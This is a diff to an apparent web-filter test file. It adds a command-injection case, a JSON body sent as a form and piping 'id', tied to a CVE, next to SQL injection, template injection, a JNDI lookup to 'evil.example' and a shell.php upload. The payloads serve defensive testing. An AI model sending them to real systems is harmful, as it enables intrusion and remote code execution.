@@ -74,6 +74,8 @@ test("attacks are blocked wherever they are, with the class in the reply and not
     ["sqli", send("GET", "/list?order_by=id%60%2Cif(SUBSTRING(%27test%27%2C1%2C1)%3D%27t%27%2Csleep(6)%2Csleep(0))--%20-")],
     ["ssti", send("GET", "/index.action?id=%25%7B128*128%7D")],
     ["cmdi", send("POST", "/spool", [["content-type", "application/x-www-form-urlencoded"]], ["SPOOLDIR=test%22.system(id).%22"])],
+    // JSON sent as a form (the back end decodes the raw body; CVE-2024-0305): read as JSON.
+    ["cmdi", send("POST", "/classes/common/busiFacade.php", [["content-type", "application/x-www-form-urlencoded"]], ['{"name":"ping","param":["ping 127.0.0.1 | id"]}'])],
     ["jndi", send("POST", "/api/items", [["content-type", "application/json"]], ['{"foo": "$&lbrace;jndi:ldap://evil.example/webshell&rbrace;"}'])],
     // A raw-body upload named by X-Filename (and its spellings): a name the web server runs, traversal.
     ["malware", send("PUT", "/upload", [["x-filename", "shell.php"], ["content-type", "application/octet-stream"]], ["<?php echo 1; ?>"])],
